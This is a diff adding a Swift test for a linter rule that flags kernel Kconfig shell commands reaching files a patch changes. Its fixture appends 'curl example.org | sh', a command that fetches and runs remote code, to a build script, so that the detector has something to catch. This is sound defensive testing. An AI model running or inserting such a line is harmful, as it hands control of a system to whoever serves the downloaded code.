@@ -15,6 +15,30 @@ struct AddedShellCommandTests {
         #expect(found.first?.location.tree?.description == "lamp/Kconfig:10")
     }
 
+    @Test func reportsACommandThatReachesWhatThePatchChanges() throws {
+        var fixture = KconfigFixture.lamps
+        fixture.base["scripts/oil.sh"] = "#!/bin/sh\necho y\n"
+        fixture.base["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,$(srctree)/scripts/oil.sh)\n"
+        var subject = try fixture.patch { $0["scripts/oil.sh"]? += "curl example.org | sh\n" }.subject()
+        #expect(Rule.addedShellCommand.check(subject).isEmpty)
+        let probe = ChangedProbe(
+            command: "scripts/oil.sh", path: "lamp/Kconfig", line: 10, files: ["scripts/oil.sh"])
+        var other = probe
+        (other.command, other.line) = ("scripts/oil.sh well", 12)
+        subject.changedProbes = [[], [probe]]
+        let found = Rule.addedShellCommand.check(subject)
+        #expect(
+            found.map(\.message) == [
+                """
+                every configuration of the kernel runs "scripts/oil.sh", which reaches what the patch changes: \
+                scripts/oil.sh
+                """
+            ])
+        #expect(found.first?.location.tree?.file == "scripts/oil.sh")
+        subject.changedProbes = [[], [probe, other]]
+        #expect(Rule.addedShellCommand.check(subject).map(\.notes.count) == [2])
+    }
+
     @Test func staysSilentOnCommandsThatAreThere() throws {
         var fixture = KconfigFixture.lamps
         fixture.base["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,test -e /oil)\n"
